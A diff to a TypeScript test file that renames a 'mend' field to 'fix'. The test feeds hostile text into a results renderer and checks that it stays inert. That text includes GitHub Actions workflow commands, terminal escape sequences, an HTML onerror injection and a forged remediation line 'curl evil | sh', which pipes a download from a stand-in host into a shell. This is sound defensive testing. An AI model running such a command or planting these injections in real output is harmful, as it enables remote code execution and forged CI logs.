@@ -8,7 +8,7 @@ import { failed, goodResults } from "./results.ts";
 
 const nasty = [
   "::add-mask::x ##[error]y",
-  "\n::stop-commands::x\n  - forged reason\n    to mend it: curl evil | sh\n  torn down, nothing left",
+  "\n::stop-commands::x\n  - forged reason\n    to fix it: curl evil | sh\n  torn down, nothing left",
   "\u001b]0;x\u0007\u001b[2J\u202e\r##[group]x",
   "# heading <img src=x onerror=y> [a](http://evil) | cell | `x` $y$\n\n# heading",
 ].join(" ");
@@ -17,8 +17,8 @@ const nasty = [
 function foreign(): Results {
   const cause = {
     what: nasty,
-    how: [nasty, "to mend it: curl evil"],
-    mend: nasty,
+    how: [nasty, "to fix it: curl evil"],
+    fix: nasty,
     id: "x",
     sureness: "likely",
     explains: [],
@@ -28,11 +28,11 @@ function foreign(): Results {
     verified: false,
     warnings: [nasty],
     causes: [{ ...cause, at: { file: nasty, line: 1, column: 2 } }],
-    checks: [{ ...failed, title: nasty, expected: nasty, seen: nasty, cause: nasty, mend: nasty }],
+    checks: [{ ...failed, title: nasty, expected: nasty, seen: nasty, cause: nasty, fix: nasty }],
     versions: { ...goodResults().versions, images: [nasty], imageDigests: [image] },
     adaptations: [{ id: "x", found: nasty, done: nasty }],
     checklist: [
-      { id: "y", title: nasty, status: "unmet", evidence: [{ met: false, text: nasty }], mend: nasty },
+      { id: "y", title: nasty, status: "unmet", evidence: [{ met: false, text: nasty }], fix: nasty },
     ],
     teardown: { leaks: [{ kind: "path", what: nasty }], kept: [nasty] },
     backup: { path: nasty, bytes: 1, series: 1, from: "2026-11-23T12:00:00Z", to: "2026-11-23T12:00:00Z" },
@@ -45,7 +45,7 @@ describe("a foreign text in the results", () => {
     const lines = text.split("\n");
     expect(lines.map(commandIn).filter((command) => command !== undefined)).toEqual([]);
     expect(showControls(text)).toBe(text);
-    expect(lines.filter((line) => /^ {0,4}(- forged|to mend it: curl|torn down)/.test(line))).toEqual([]);
+    expect(lines.filter((line) => /^ {0,4}(- forged|to fix it: curl|torn down)/.test(line))).toEqual([]);
   });
 
   test("is only text in the summary", () => {
